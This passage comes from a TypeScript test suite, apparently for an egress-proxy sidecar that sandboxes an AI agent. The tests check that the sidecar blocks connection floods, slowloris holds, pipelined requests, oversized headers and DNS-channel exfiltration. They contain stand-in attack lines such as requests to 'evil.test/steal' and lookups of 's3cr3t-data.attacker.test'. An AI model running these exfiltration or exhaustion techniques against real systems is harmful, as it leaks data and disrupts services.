        const before = await mark(world);
        const [denied, allowed] = await Promise.all([
          world.agent.flood(SEALED.sidecar, SEALED.listenPort, N, connectReq('evil.test:443'), 15_000),
          world.agent.flood(SEALED.sidecar, SEALED.listenPort, 100, connectReq('api.allowed.test:443'), 15_000),
        ]);
        const ev = await evidenceSince(world, before, { responses: [], raw: Buffer.alloc(0), closedByPeer: true, timedOut: false, ms: 0 });
        const tally = (rs: string[]): Record<string, number> => rs.reduce<Record<string, number>>((m, r) => ({ ...m, [r]: (m[r] ?? 0) + 1 }), {});
        console.log(`flood: ${N} denied CONNECTs in ${denied.ms} ms ${JSON.stringify(tally(denied.results))}; 100 allowed in ${allowed.ms} ms ${JSON.stringify(tally(allowed.results))}`);
        expect(denied.results.filter((r) => /^HTTP\/1\.1 200/.test(r))).toEqual([]);
        expect(denied.results.filter((r) => /^HTTP\/1\.1 403/.test(r)).length).toBe(N);
        expect(allowed.results.filter((r) => /^HTTP\/1\.1 200/.test(r)).length).toBe(100);
        expect(denied.ms).toBeLessThan(15_000);
        expect(ev.delta.get(STAT.cx)).toBeGreaterThanOrEqual(N + 100);
        expect(world.sidecar.envoy.exitStatus).toBeUndefined();
      });
    }, 60_000);

    it('#17 200 slow clients (slowloris) do not starve a legitimate request', async () => {
      await countedVariant(17, async () => {
        const held = await world.agent.slowStart(SEALED.sidecar, SEALED.listenPort, 200, 'CONNECT api.allowed.test:443 HTTP/1.1\r\nHost: api');
        expect(held.connected).toBe(200);
        const active = await world.sidecar.envoy.stats('^http\\.egress\\.downstream_cx_active$');
        expect(active.get('http.egress.downstream_cx_active')).toBeGreaterThanOrEqual(200);
        for (let i = 0; i < 3; i++) {
          await world.agent.slowTrickle(held.key, `.allowed.test\r\nX-Slow-${i}: a`);
          const t0 = performance.now();
          const ok1 = await attempt(world, connectReq('api.allowed.test:443'), { connect: true });
          const bad = await attempt(world, connectReq('evil.test:443'), { connect: true });
          expect(ok1.final?.status).toBe(200);
          expect(bad.final?.status).toBe(403);
          expect(performance.now() - t0).toBeLessThan(2000);
          await new Promise((r) => setTimeout(r, 300));
        }
        const released = await world.agent.slowStop(held.key);
        console.log(`slowloris: 200 held ~1 s with trickled headers; ${released.closedByPeer} closed by the sidecar meanwhile, ${released.open} still open when released (the HCM sets no request-headers timeout; connections are bounded by the overload manager's downstream limit)`);
        expect(world.sidecar.envoy.exitStatus).toBeUndefined();
      });
    }, 60_000);

    it('#17 500 pipelined requests to a denied host on one connection: none forwarded', async () => {
      await countedVariant(17, async () => {
        const one = 'GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n';
        const ev = await attempt(world, one.repeat(500), { expect: 500, timeoutMs: 8000, idleMs: 300 });
        expect(ev.reachedSidecar).toBe(true);
        expect(ev.statuses.every((s) => s === 403)).toBe(true);
        expect(ev.upstreamConnections).toBe(0);
        console.log(`pipelining: ${ev.statuses.length} responses (all 403) for 500 pipelined denied requests, closed=${ev.exchange.closedByPeer}`);
      });
    }, 30_000);

    it('#17 a request with 200 KB of headers is refused and the sidecar stays up', async () => {
      await countedVariant(17, async () => {
        const big = Array.from({ length: 200 }, (_, i) => `X-Pad-${i}: ${'a'.repeat(1000)}\r\n`).join('');
        const ev = await attempt(world, getReq('http://evil.test/', 'evil.test', big));
        expect(ev.reachedSidecar).toBe(true);
        expect(refusal(ev)).not.toBeNull();
        const ok2 = await attempt(world, connectReq('api.allowed.test:443'), { connect: true });
        expect(ok2.final?.status).toBe(200);
      });
    });
  });

  // -------------------------------------------------------------------------------------------
  // 18. DNS as a channel

  describe('#18 DNS from the agent', () => {
    registerClass(18, 'DNS as a channel');
    const resolvConf = (() => {
      try {
        return /^nameserver\s+(\S+)/m.exec(fs.readFileSync('/etc/resolv.conf', 'utf8'))?.[1];
      } catch {
        return undefined;
      }
    })();
    // The sidecar re-resolves names it cached earlier in the background (dns_refresh_rate); only
    // the attacker's names matter here.
    const attackerQueries = (from: number): string[] => world.dns.queries.slice(from).map((q) => q.name).filter((n) => /s3cr3t|attacker/i.test(n));
    const query = (name: string): Buffer => {
      // A minimal DNS query for name, type A.
      const labels = name.split('.').flatMap((l) => [Buffer.from([l.length]), Buffer.from(l)]);
      return Buffer.concat([Buffer.from([0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
    };
    const servers: Array<[string, string]> = [
      ['the world DNS server', SEALED.dns],
      ['the sidecar address', SEALED.sidecar],
      ['the agent namespace loopback', '127.0.0.1'],
      ['the metadata resolver address', '169.254.169.253'],
      ...(resolvConf && !resolvConf.includes(':') ? [["the host's resolv.conf nameserver", resolvConf] as [string, string]] : []),
    ];
    it.each(servers)('#18 a UDP query to %s (%s) gets no answer', async (_what, server) => {
      await countedVariant(18, async () => {
        const before = world.dns.queries.length;
        const r = await world.agent.udpExchange(server, 53, query('s3cr3t-data.attacker.test'), 800);
        expect(r.reply).toBeUndefined();
        expect(r.error).toMatch(/^(ENETUNREACH|ECONNREFUSED|ETIMEDOUT|EHOSTUNREACH|EACCES)$/);
        expect(attackerQueries(before)).toEqual([]);
      });
    });
    it('#18 the system resolver and c-ares in the agent namespace fail', async () => {
      await countedVariant(18, async () => {
        const before = world.dns.queries.length;
        expect((await world.agent.lookup('s3cr3t-data.attacker.test')).addresses).toBeUndefined();
        expect((await world.agent.resolve('s3cr3t-data.attacker.test')).addresses).toBeUndefined();
        expect((await world.agent.resolve('s3cr3t-data.attacker.test', `${SEALED.dns}:53`)).addresses).toBeUndefined();
        expect(attackerQueries(before)).toEqual([]);
      });
    });
    it('#18 DNS over TCP to the DNS server fails', async () => {
      await countedVariant(18, async () => {
        const r = await world.agent.connectTcp(SEALED.dns, 53, 1000);
        expect(r.socket).toBeUndefined();
      });
    });
    it('#18 the sidecar never resolves a name the agent is not allowed to reach', async () => {
      await countedVariant(18, async () => {
        const before = world.dns.queries.length;
        for (const p of [connectReq('s3cr3t-data.attacker.test:443'), getReq('http://s3cr3t-data2.attacker.test/', 's3cr3t-data2.attacker.test'), getReq('/', 's3cr3t-data3.attacker.test'), connectReq(`${SEALED.dns}:53`)]) {
          const ev = await attempt(world, p, { connect: p.startsWith('CONNECT') });
          expect(ev.reachedSidecar).toBe(true);
          expect(refusal(ev)).not.toBeNull();
        }
        expect(attackerQueries(before)).toEqual([]);
        noteClass(18, 'names under an allowed wildcard (*.cdn.allowed.test) are resolved by design: a wildcard allows its whole subtree');
      });
    });
  });

  // Not an attack: the header the sidecar adds to refusals must not leak policy internals.
  it('a refusal names nothing internal', async () => {
    const ev = await attempt(world, getReq('http://evil.test/steal?k=secret', 'evil.test'));
    expect(ev.final?.status).toBe(403);
    expect(ev.final?.body.toString()).not.toMatch(/coder|acme|rule|policy|198\.|127\.|evil/i);
    expect(header(ev.final, 'x-envoy-upstream-service-time')).toBeUndefined();
  });
});
